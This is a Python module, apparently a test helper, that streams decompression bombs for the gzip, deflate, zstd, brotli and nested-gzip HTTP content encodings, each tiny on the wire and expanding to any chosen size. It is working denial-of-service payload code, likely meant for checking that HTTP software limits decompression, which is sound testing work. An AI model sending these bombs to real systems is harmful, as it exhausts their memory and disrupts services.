"""Bodies that misbehave: decompression bombs of any size, made as they are sent, in a few bytes of memory.

Each function yields pieces of a compressed stream that stands for `size` equal letters. Zstandard (RFC 8878) has a
block type for a repeated byte. Brotli (RFC 7932) can say with one command that 16 MiB of literals follow, and with a
prefix code of a single symbol each of them costs no bit. For gzip (RFC 1952) a megabyte is deflated once and repeated.
"""

import itertools
import struct
import zlib

LETTER = b"a"
MEGABYTE = 1 << 20


def gzip_bomb(size):
    """A gzip member of `size` letters; its checksum is right where it is under 1 GB, and 0 otherwise."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = deflate.compress(LETTER * MEGABYTE) + deflate.flush(zlib.Z_FULL_FLUSH)
    yield b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"
    checksum = 0
    for _ in range(size // MEGABYTE):
        yield piece
        if size < 1 << 30:
            checksum = zlib.crc32(LETTER * MEGABYTE, checksum)
    rest = LETTER * (size % MEGABYTE)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    yield last.compress(rest) + last.flush()
    yield struct.pack("<II", zlib.crc32(rest, checksum) if size < 1 << 30 else 0, size & 0xFFFFFFFF)


def deflate_bomb(size):
    """A zlib stream, which is what `Content-Encoding: deflate` means (RFC 9110, section 8.4.1.2)."""
    deflate = zlib.compressobj(9)
    for _ in range(size // MEGABYTE):
        yield deflate.compress(LETTER * MEGABYTE)
    yield deflate.compress(LETTER * (size % MEGABYTE)) + deflate.flush()


def zstd_bomb(size):
    """One frame without a content size; blocks of type RLE, 128 KiB each (the largest)."""
    largest = 128 << 10
    yield struct.pack("<IBB", 0xFD2FB528, 0, 0x38)  # magic number; descriptor; window of 128 KiB
    full, rest = divmod(size, largest)
    header = struct.pack("<I", largest << 3 | 1 << 1)[:3] + LETTER
    while full > 0:
        now = min(full, 1024)
        yield header * now
        full -= now
    yield struct.pack("<I", rest << 3 | 1 << 1 | 1)[:3] + LETTER


class _Bits:
    def __init__(self):
        self.value = self.length = 0

    def put(self, value, length):
        self.value |= value << self.length
        self.length += length

    def take(self):
        """The whole bytes so far."""
        whole = self.length // 8
        out = (self.value & ((1 << 8 * whole) - 1)).to_bytes(whole, "little")
        self.value >>= 8 * whole
        self.length -= 8 * whole
        return out


def brotli_bomb(size):
    bits = _Bits()
    bits.put(0b1, 1), bits.put(0b111, 3)  # WBITS 24
    while size > 0:
        now = min(size, 1 << 24)
        size -= now
        if now < 22594:  # the smallest length that the one command below can say
            now, size = 22594, 0
        nibbles = max(4, -(-(now - 1).bit_length() // 4))  # the last one may not be 0
        bits.put(0, 1), bits.put(nibbles - 4, 2), bits.put(now - 1, 4 * nibbles), bits.put(0, 1)  # not last, compressed
        bits.put(0, 3)                    # one block type of each kind
        bits.put(0, 6), bits.put(0, 2)    # no postfix, no direct distances; context mode LSB6
        bits.put(0, 1), bits.put(0, 1)    # one tree of literals, one of distances
        for symbol, width in ((LETTER[0], 8), (703, 10), (0, 6)):  # prefix codes of a single symbol: no bits each
            bits.put(1, 2), bits.put(0, 2), bits.put(symbol, width)
        bits.put(now - 22594, 24), bits.put(0, 24)  # the command 703: insert that many; its copy is never reached
        yield bits.take()
    bits.put(0b11, 2), bits.put(0, 7)  # the last block, empty; then up to a byte
    yield bits.take()


def nested_gzip_bomb(size):
    """gzip in gzip: what is sent for `Content-Encoding: gzip, gzip`."""
    outer = zlib.compressobj(9, zlib.DEFLATED, 31)
    for piece in gzip_bomb(size):
        yield outer.compress(piece)
    yield outer.flush()


BOMBS = {"gzip": gzip_bomb, "deflate": deflate_bomb, "zstd": zstd_bomb, "br": brotli_bomb,
         "gzip, gzip": nested_gzip_bomb}


def pieces(coding, size):
    """The pieces of a bomb, none of them empty, joined to some 16 KiB each."""
    gathered = []
    for piece in itertools.chain(BOMBS[coding](size), [None]):
        if piece is not None:
            gathered.append(piece)
        if gathered and (piece is None or sum(map(len, gathered)) >= 16 << 10):
            joined, gathered = b"".join(gathered), []
            if joined:
                yield joined
